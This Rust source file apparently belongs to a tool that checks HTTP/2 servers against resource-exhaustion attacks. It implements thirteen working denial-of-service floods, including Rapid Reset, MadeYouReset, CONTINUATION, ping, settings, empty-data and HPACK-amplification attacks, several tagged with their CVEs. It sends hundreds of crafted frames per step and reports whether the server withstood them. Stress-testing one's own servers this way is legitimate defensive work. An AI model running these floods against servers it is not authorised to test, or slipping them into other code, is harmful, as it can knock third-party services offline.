//! What a peer of HTTP/2 can do to have much work done, or much kept, for little of its own.

use std::io;

use crate::frames::{
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, Frames, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, block,
};

/// One way of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Asks, and takes it back at once (CVE-2023-44487).
    RapidReset,
    /// Asks, and lets the server take it back, by an error in the stream (CVE-2025-8671).
    MadeYouReset,
    /// A head that does not end (CVE-2024-27316).
    Continuations,
    /// The same in pieces without a byte.
    EmptyContinuations,
    /// Settings, over and over, whose acknowledgements are read (CVE-2019-9515).
    Settings,
    /// Pings, over and over, whose answers are read (CVE-2019-9512).
    Pings,
    /// Pings whose answers are not read.
    DeafPings,
    /// Priorities, which mean nothing any more (CVE-2019-9513).
    Priorities,
    /// Pieces of a body without a byte (CVE-2019-9518).
    EmptyData,
    /// Takes replies by the byte (CVE-2019-9511).
    SmallWindows,
    /// Asks on all streams and takes nothing (CVE-2019-9517).
    ClosedWindows,
    /// Small heads that stand for large ones (CVE-2016-6581).
    LargeHeads,
    /// Bodies on all streams that do not go on.
    StandingBodies,
}

impl Attack {
    /// All of them.
    pub const ALL: [Attack; 13] = [
        Attack::RapidReset,
        Attack::MadeYouReset,
        Attack::Continuations,
        Attack::EmptyContinuations,
        Attack::Settings,
        Attack::Pings,
        Attack::DeafPings,
        Attack::Priorities,
        Attack::EmptyData,
        Attack::SmallWindows,
        Attack::ClosedWindows,
        Attack::LargeHeads,
        Attack::StandingBodies,
    ];

    /// The window that streams have at first for this.
    pub fn window(self) -> u32 {
        match self {
            Attack::SmallWindows | Attack::ClosedWindows => 0,
            _ => 65_535,
        }
    }

    /// So many steps, of a hundred frames each, nobody is to put up with. Where answers are read, the server has read what they answer;
    /// elsewhere what is written may still be in buffers, which hold some megabytes, while the server has not had its turn: as
    /// many more as are beyond any buffer.
    pub fn steps(self) -> u32 {
        match self {
            Attack::Settings | Attack::Pings | Attack::SmallWindows => 300,
            _ => 30_000,
        }
    }

    /// Goes on with it, in so many steps of a hundred frames; false if the server has put up with all of them.
    ///
    /// # Errors
    ///
    /// Nothing could be read or written for too long.
    pub fn play(self, frames: &mut Frames, path: &str, steps: u32) -> io::Result<bool> {
        for step in 0..steps {
            if step == 0 {
                self.begin(frames, path);
            }
            let expected = self.put(frames, path, step);
            if frames.flush().is_err() || !read(frames, expected)? {
                return Ok(true);
            }
        }
        Ok(false)
    }

    fn begin(self, frames: &mut Frames, path: &str) {
        let head = block(path, &AUTHORITY);
        match self {
            Attack::Continuations | Attack::EmptyContinuations => frames.put(HEADERS, 0, 1, &head),
            Attack::EmptyData => frames.put(HEADERS, END_HEADERS, 1, &head),
            Attack::SmallWindows => frames.put(HEADERS, END_HEADERS | 1, 1, &head),
            _ => {}
        }
    }

    /// A hundred frames; the number and the kind of those that answer them, and are read.
    fn put(self, frames: &mut Frames, path: &str, step: u32) -> (u8, u32) {
        let head = block(path, &AUTHORITY);
        let mut expected = (DATA, 0);
        for number in 0..100 {
            let stream = 2 * (100 * step + number) + 1;
            match self {
                Attack::RapidReset => {
                    frames.put(HEADERS, END_HEADERS | 1, stream, &head);
                    frames.put(RST_STREAM, 0, stream, &CANCEL);
                }
                Attack::MadeYouReset => {
                    frames.put(HEADERS, END_HEADERS, stream, &head);
                    // No room is an error of the stream only.
                    frames.put(WINDOW_UPDATE, 0, stream, &[0; 4]);
                }
                Attack::Continuations => {
                    frames.put(CONTINUATION, 0, 1, &block("/", &[("x-more", &"x".repeat(100))])[2..])
                }
                Attack::EmptyContinuations => frames.put(CONTINUATION, 0, 1, &[]),
                Attack::Settings => {
                    frames.put(SETTINGS, 0, 0, &[]);
                    expected = (SETTINGS, 100);
                }
                Attack::Pings => {
                    frames.put(PING, 0, 0, &[7; 8]);
                    expected = (PING, 100);
                }
                Attack::DeafPings => frames.put(PING, 0, 0, &[7; 8]),
                Attack::Priorities => frames.put(PRIORITY, 0, 1, &[0, 0, 0, 0, 15]),
                Attack::EmptyData => frames.put(DATA, 0, 1, &[]),
                Attack::SmallWindows => {
                    frames.put(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
                    expected = (DATA, 1);
                }
                Attack::ClosedWindows => frames.put(HEADERS, END_HEADERS | 1, stream, &head),
                Attack::LargeHeads => {
                    frames.put(HEADERS, END_HEADERS | 1, stream, &large(&head));
                    frames.put(RST_STREAM, 0, stream, &CANCEL);
                }
                Attack::StandingBodies => {
                    frames.put(HEADERS, END_HEADERS, stream, &head);
                    frames.put(DATA, 0, stream, &[0; 10]);
                }
            }
        }
        expected
    }
}

/// Waits for so many frames; false where the connection ends before.
fn read(frames: &mut Frames, (kind, mut count): (u8, u32)) -> io::Result<bool> {
    while count > 0 {
        match frames.receive()? {
            None => return Ok(false),
            Some(frame) if frame.kind != kind => {}
            Some(frame) if kind != DATA && frame.flags & ACK == 0 => {}
            Some(_) => count -= 1,
        }
    }
    Ok(true)
}

/// A field of 3 KB that goes into the table, and a thousand times its number.
fn large(head: &[u8]) -> Vec<u8> {
    let mut block = head.to_vec();
    // A literal with a new name; its value has a length of three bytes.
    block.extend([0x40, 6]);
    block.extend(b"x-more");
    block.extend([0x7f, 0xb9, 0x16]);
    block.extend([b'x'; 3_000]);
    block.extend([0xbe; 1_000]);
    block
}

const AUTHORITY: [(&str, &str); 1] = [(":authority", "a")];

const PRIORITY: u8 = 2;
